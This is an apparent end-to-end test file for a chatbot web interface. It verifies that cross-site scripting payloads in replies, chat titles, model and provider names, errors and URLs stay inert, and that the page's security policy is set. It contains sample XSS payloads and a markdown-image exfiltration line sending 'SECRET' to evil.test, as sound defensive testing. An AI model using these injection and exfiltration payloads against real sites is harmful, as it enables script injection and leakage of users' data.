"""Nothing that a model, a provider or a title says runs, reaches out or dresses up the page."""

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import type_of_opener
from tests.e2e.screen import Screen
from tests.e2e.site import Site

CORPUS = Path(__file__).parents[2] / "chatbox" / "ui" / "tests" / "fixtures" / "xss.json"
# A lone surrogate cannot be sent; the page's own tests have it.
PAYLOADS = [one["text"].encode(errors="replace").decode() for one in json.loads(CORPUS.read_text())]
NAMES = (
    '"><img src=x onerror=window.pwn=1>',
    "<script>window.pwn=1</script>",
    "javascript:window.pwn=1",
)
PWNED = "() => ['pwn', 'pwned'].filter((name) => window[name] !== undefined)"
BAD = """() => [...document.querySelectorAll('.transcript *')].flatMap((node) => {
  const found = [];
  const bad = /^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|STYLE|LINK|META|BASE|VIDEO|AUDIO|IMG)$/i;
  if (bad.test(node.tagName))
    found.push(node.outerHTML.slice(0, 200));
  for (const {name, value} of node.attributes) {
    if (/^on/i.test(name)) found.push(`${name}=${value}`);
    if (/^(href|src|action|formaction|xlink:href|data|srcdoc)$/i.test(name) &&
        !/^(https?:|mailto:|tel:|\\/|#|$)/i.test(value.trim())) found.push(`${name}=${value}`);
  }
  return found;
})"""
CLICK = """() => { const all = '.reply-body :is(a, summary, [tabindex])';
  for (const node of document.querySelectorAll(all)) { node.removeAttribute('target');
  const isBad = /^javascript|^data|^vbscript/i.test(node.protocol ?? '');
  node.addEventListener('click', (event) => { if (!isBad) event.preventDefault(); });
  node.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); node.click(); } }"""


def documents() -> list[str]:
    """The corpus in a few replies; a paragraph and a rule keep the payloads apart."""
    size = -(-len(PAYLOADS) // 4)
    parts = [PAYLOADS[at : at + size] for at in range(0, len(PAYLOADS), size)]
    return [
        "\n\n".join(f"Payload {n}\n\n{text}\n\n```\n~~~\n```" for n, text in enumerate(part))
        for part in parts
    ]


def inert(screen: Screen) -> None:
    assert screen.evaluate(PWNED) == []
    assert screen.evaluate(BAD) == []


def test_the_corpus_streamed_stored_and_clicked(opener: type_of_opener, site: Site) -> None:
    screen = opener(site)
    screen.page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    for text in documents():
        session = site.session("markdown", title="Corpus")
        screen.chat(session)
        site.begin(session, f"markdown:{text}", "markdown")
        expect(screen.body).to_contain_text("Payload 0")
        inert(screen)
        screen.finished()
        screen.page.mouse.wheel(0, -5_000)
        inert(screen)
        screen.evaluate(CLICK)
        inert(screen)
        screen.page.reload()
        screen.finished()
        inert(screen)
        assert screen.page.url == f"{site.url}/c/{session}"


def test_each_payload_alone(opener: type_of_opener, site: Site) -> None:
    """One at a time, so that none is hidden in what another one opened."""
    screen = opener(site)
    session = site.session("markdown")
    screen.chat(session)
    site.say(session, "Begin")
    chosen = PAYLOADS[::11]
    for text in chosen:
        site.say(session, f"markdown:{text}", "markdown")
    expect(screen.replies).to_have_count(1 + len(chosen))
    screen.finished()
    inert(screen)
    screen.evaluate(CLICK)
    inert(screen)


def test_the_scripted_attacker(screen: Screen, site: Site) -> None:
    session = site.session("xss")
    screen.chat(session)
    screen.ask("Attack")
    inert(screen)
    expect(screen.body).to_contain_text("<script>window.pwned=1</script>")
    expect(screen.page.locator(".md-image-card")).to_contain_text("Image from tracker.test")
    screen.page.reload()
    screen.finished()
    inert(screen)


@pytest.mark.parametrize("name", NAMES)
def test_titles_questions_and_prompts_are_text(screen: Screen, site: Site, name: str) -> None:
    session = site.session(title=name, system_prompt=name)
    site.say(session, name)
    screen.chat(session)
    inert(screen)
    expect(screen.page.locator(".chat-title")).to_have_text(name)
    expect(screen.rows.first).to_contain_text(name)
    expect(screen.questions.first).to_contain_text(name)
    assert name in screen.page.title()
    screen.page.keyboard.press("Control+k")
    expect(screen.page.get_by_role("option").first).to_contain_text(name)
    screen.page.keyboard.press("Escape")
    screen.row_menu(name, "Delete")
    expect(screen.toasts.first).to_be_visible()
    inert(screen)


def test_names_of_providers_and_models_are_text(opener: type_of_opener, own_site: Site) -> None:
    provider = own_site.call("GET", "/providers")["items"][0]
    for name in NAMES:
        own_site.call("POST", "/models", provider_id=provider["id"], name=name)
    answer = httpx.patch(
        f"{own_site.url}/api/v1/providers/{provider['id']}",
        json={"name": NAMES[0]},
        trust_env=False,
    )
    screen = opener(own_site)
    for path in ("/settings/models", "/settings/providers", "/"):
        screen.open(path)
        expect(screen.page.locator("h1").first).to_be_visible()
        inert(screen)
    screen.page.locator(".model-chip").click()
    screen.page.get_by_role("combobox", name="Choose a model").fill("script")
    expect(screen.page.get_by_role("option").first).to_contain_text(NAMES[1])
    screen.page.keyboard.press("Enter")
    screen.ask("Hello")
    inert(screen)
    assert answer.status_code in (200, 400)


def test_errors_of_a_provider_are_text(screen: Screen, site: Site) -> None:
    session = site.session("html200")
    screen.chat(session)
    screen.send("Hello")
    error = screen.last.locator(".message-error")
    expect(error).to_be_visible()
    error.locator("summary").click()
    inert(screen)


def test_remote_images_are_not_fetched(screen: Screen, site: Site) -> None:
    session = site.session()
    text = "![secret](https://evil.test/p.png?d=SECRET) ![r][r]\n\n[r]: https://evil.test/r.png"
    screen.chat(session)
    screen.ask(text)
    expect(screen.body.locator(".md-image-card").first).to_contain_text("Image from evil.test")
    expect(screen.body.locator("img")).to_have_count(0)
    assert not [url for url in screen.watch.requests if "evil.test" in url]


def test_addresses_that_try_are_refused(screen: Screen, site: Site) -> None:
    screen.watch.allow("404")
    for path in (
        "/c/%22%3E%3Cscript%3Ewindow.pwn=1%3C/script%3E",
        "/settings/%3Cimg%20src=x%3E",
        "/#m-<img>",
    ):
        screen.open(path)
        expect(screen.page.locator("h1").first).to_be_visible()
        inert(screen)


def test_the_page_cannot_be_framed_and_has_its_policy(site: Site) -> None:
    answer: Any = httpx.get(site.url, trust_env=False)
    policy = answer.headers["content-security-policy"]
    for part in (
        "default-src 'none'",
        "frame-ancestors 'none'",
        "require-trusted-types-for 'script'",
        "trusted-types 'none'",
    ):
        assert part in policy
